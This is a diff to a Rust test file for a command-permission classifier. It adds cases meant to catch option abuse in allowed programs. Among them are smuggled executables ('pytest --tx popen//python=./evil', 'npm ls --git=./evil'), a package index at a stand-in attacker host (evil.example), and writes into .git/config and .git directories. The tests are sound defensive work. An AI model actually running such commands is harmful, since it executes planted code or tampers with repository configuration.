@@ -2384,9 +2384,13 @@ fn allowed_programs_do_not_grant_options_that_run_or_hide_what_they_do() {
             "ask",
         ),
         ("gh pr merge 12 -d", "ask"),
+        ("cargo clippy --fix", "ask"),
         ("7z a out.7z @list.txt", "ask"),
         ("7z a out.7z '-ir!*.rs'", "ask"),
+        ("pytest --cov-report=xml:.git/config", "ask"),
+        ("pytest --tx popen//python=./evil", "ask"),
         ("rsync --remote-option=--log-file=/tmp/x src/ dst/", "ask"),
+        ("uv run --index=https://evil.example/simple pytest", "ask"),
         // What the options do not change stays allowed.
         ("cp src/main.rs copy.rs", "allow"),
         ("curl -O https://example.com/x", "allow"),
@@ -3056,6 +3060,8 @@ const PROGRAM_CASES: &[(&str, &str, &str)] = &[
     // `-T` takes its title in turn, so `-o` writes `.git/config`.
     ("tree", "tree -LTo 1 title .git/config", "deny"),
     ("find", "find -files0-from list.txt -type f", "ask"),
+    // npm reads its options on any subcommand: the git it runs.
+    ("npm", "npm ls --git=./evil", "ask"),
     ("install", "install -d .git/hooks/x", "deny"),
     (
         "tar",
@@ -3092,6 +3098,7 @@ const PROGRAM_CASES: &[(&str, &str, &str)] = &[
         "wget --hsts-file .git/config https://example.com/x",
         "deny",
     ),
+    ("uv", "uv run --cache-dir .git/x pytest", "deny"),
 ];
 
 #[test]
